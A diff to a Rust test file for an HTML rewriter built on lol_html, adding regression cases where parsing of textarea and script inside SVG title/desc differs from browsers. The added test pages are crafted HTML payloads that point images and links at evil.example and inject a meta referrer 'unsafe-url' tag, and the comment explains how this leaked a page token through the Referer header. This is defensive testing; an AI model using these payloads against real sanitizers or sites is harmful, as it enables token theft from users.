@@ -408,6 +408,14 @@ fn nested_foreign_content_where_lol_html_and_browsers_part() {
         // there hid a `<base>` (`rewrite_html`).
         "<svg/><title><a href=s>",
         r#"<a href="x">x</a><svg/><title><!--</title><base href="https://evil.example/">--><a href="/n">n</a>"#,
+        // A `<textarea>` or `<script>` in an SVG integration point is HTML to lol_html and to
+        // a browser. The rewriter emptied it with lol_html's `set_inner_content`, which moved
+        // the text after the next tag instead: a `<meta name=referrer content=unsafe-url>`,
+        // text in the textarea, came out live, and the image's `Referer` carried the page's
+        // token (`rewrite_pieces`). Its text is now held and judged as other held text is.
+        r#"<img src=https://evil.example/i><svg><title><textarea><meta name=referrer content=unsafe-url></textarea><a href="/next">n</a>"#,
+        r#"<img src=https://evil.example/i><svg><desc><script><meta name=referrer content=unsafe-url></script><a href="/next">n</a>"#,
+        r#"<svg><title><textarea><a href="https://evil.example/">x</a></textarea><p>"#,
     ];
     for page in pages {
         for use_get in [false, true] {
